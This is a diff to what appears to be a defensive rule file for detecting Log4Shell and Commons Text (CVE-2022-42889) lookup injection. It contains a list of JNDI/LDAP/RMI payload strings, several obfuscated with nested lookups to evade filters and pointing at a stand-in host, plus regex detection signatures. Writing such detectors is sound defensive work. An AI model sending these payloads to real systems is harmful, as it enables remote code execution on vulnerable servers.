@@ -27,7 +27,7 @@ RULE = AttackRule(
         Payload("${jndi:ldap://192.0.2.1/a}", "header User-Agent"),
         Payload("${${lower:j}ndi:${lower:l}${lower:d}ap://192.0.2.1/a}", "query q"),
         Payload("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://192.0.2.1/a}"),
-        Payload("${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}", "path"),
+        Payload("${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}", "header Referer"),
         Payload("${jnd${upper:ı}:ldap://192.0.2.1/a}"),
         Payload("ldap://192.0.2.1:1389/Exploit", "query dataSource"),
         Payload("${date:'j'}${date:'n'}di", "cookie sid"),
@@ -51,13 +51,16 @@ SIGNATURES = (
     ),
     Signature(
         id="nested",
-        pattern=rb"\$\{[^${}]{0,40}\$\{\s*(?:lower|upper|env|sys|date|main|ctx|java|web|docker|k8s|spring|bundle|marker|map|sd|log4j|event|base64|[^{}:$]{0,40}:[^{}$]{0,40}:-|:{1,3}-)",
+        pattern=rb"\$\{[^${}]{0,40}\$\{\s*(?:lower|upper|env|sys|date|main|ctx|java|web|docker|k8s|spring|bundle|marker"
+        rb"|map|sd|log4j|event|base64|[^{}:$]{0,40}:[^{}$]{0,40}:-|:{1,3}-)",
         reason="a lookup within a lookup",
         where=_ANY,
     ),
     Signature(
         id="spelt",
-        pattern=rb"\$\{\s*(?:(?:lower|upper|date)\s*:\s*[^{}$]{1,20}\}|(?:env|sys|main|::?-?)[^{}$]{0,40}:-[jndilaprmsh:]{1,4}\s*\}|:{1,3}-[jndilaprmsh:]{1,4}\s*\}|base64:[A-Za-z0-9+/=]{4,})",
+        pattern=rb"\$\{\s*(?:(?:lower|upper|date)\s*:\s*[^{}$]{1,20}\}|(?:env|sys|main"
+        rb"|::?-?)[^{}$]{0,40}:-[jndilaprmsh:]{1,4}\s*\}|:{1,3}-[jndilaprmsh:]{1,4}\s*\}"
+        rb"|base64:[A-Za-z0-9+/=]{4,})",
         reason="letters spelt by lookups",
         where=_ANY,
     ),
@@ -69,7 +72,8 @@ SIGNATURES = (
     ),
     Signature(
         id="fetches",
-        pattern=rb"\$\{\s*(?:script|dns|url|file|xpath|const|urlDecoder)\s*:\s*(?:javascript|js|nashorn|address|utf-8|https?|[\w\-]{1,20}:)[^}]*\}",
+        pattern=rb"\$\{\s*(?:script|dns|url|file|xpath|const|urlDecoder)\s*:\s*(?:javascript|js|nashorn|address|utf-8"
+        rb"|https?|[\w\-]{1,20}:)[^}]*\}",
         reason="a lookup of Commons Text that runs or fetches (CVE-2022-42889)",
         where=_ANY,
     ),
